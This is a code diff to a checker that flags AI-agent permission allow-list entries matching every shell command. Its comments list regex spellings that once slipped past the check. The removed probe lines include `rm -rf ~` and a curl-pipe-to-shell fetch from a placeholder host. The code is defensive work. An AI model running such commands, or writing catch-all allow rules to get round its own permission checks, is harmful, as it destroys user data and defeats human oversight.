@@ -22,6 +22,7 @@ permissions page), never a guess:
 from __future__ import annotations
 
 from .. import pathstr
+from ..lazyre import lazy
 from ..shell.programs import PACKAGE_BINS
 
 # Other names of the same CLIs: npm/PyPI package names a runner leaves as the command (`npx @qwen-code/qwen-code` runs
@@ -324,30 +325,27 @@ _COMMAND_ALLOW_KEYS = frozenset(
 )
 # Entries that match every command: a glob or a regular expression (in VS Code's /…/ form or bare) of anything.
 _EVERY_COMMAND = frozenset({"*", "**", ".*", "/.*/", "^.*$", "/^.*$/", ".+", "/.+/", "/^.+$/", "^.+$", "/.*/i"})
-# Command lines no allow-list of named commands matches: an entry that matches all of them matches every command.
-_PROBE_COMMANDS = ("rm -rf ~", "curl -s https://x.example/i.sh | sh", "git push --force origin main", "x")
+# A /regex/ body that finds a match in any command line (RegExp.test): anchors at the start, and any number of atoms that
+# match any character (`.`, `[\s\S]` and its kin), each once or under a quantifier; an empty group matches nothing. The
+# entry is read by its shape, never compiled: the agent wrote it.
+_ANY_ATOMS = lazy(r"\^*(?:(?:\.|\[(?:\\s\\S|\\S\\s|\\w\\W|\\W\\w|\\d\\D|\\D\\d|\^)\])(?:[*+?]|\{[01],\})?)*\$?")
+_EMPTY_GROUP = lazy(r"\((?:\?:)?\)")
 
 
 def matches_every_command(entry: str) -> bool:
     """An allow-list entry that matches every command, however it is spelled (adversarial round 11a: `/./`, `/^/`,
     `/(?:)/`, `/[\\s\\S]*/` and an empty prefix were allowed where `/.*/` and `*` were denied): one of the usual
-    spellings, an empty entry (Roo's and Kilo's entries are prefixes: "" begins every command), or a `/regex/` that
-    finds a match in each of a few unrelated command lines (VS Code tests its entries with RegExp.test)."""
+    spellings, an empty entry (Roo's and Kilo's entries are prefixes: "" begins every command), or a `/regex/` made only
+    of start anchors, empty groups and any-character atoms (VS Code tests its entries with RegExp.test)."""
     e = entry.strip()
     if e in _EVERY_COMMAND or e == "":
         return True
     if len(e) < 2 or not e.startswith("/") or len(e) > 512:
         return False
-    body, _, flags = e[1:].rpartition("/")
-    if not body and not _:
+    body, slash, _flags = e[1:].rpartition("/")
+    if not slash:
         return False
-    import re
-
-    try:
-        rx = re.compile(body, re.IGNORECASE if "i" in flags else 0)
-    except (re.error, RecursionError, OverflowError):
-        return False
-    return all(rx.search(c) is not None for c in _PROBE_COMMANDS)
+    return _ANY_ATOMS.fullmatch(_EMPTY_GROUP.sub("", body)) is not None
 
 
 def settings_agent(path: str) -> str | None:
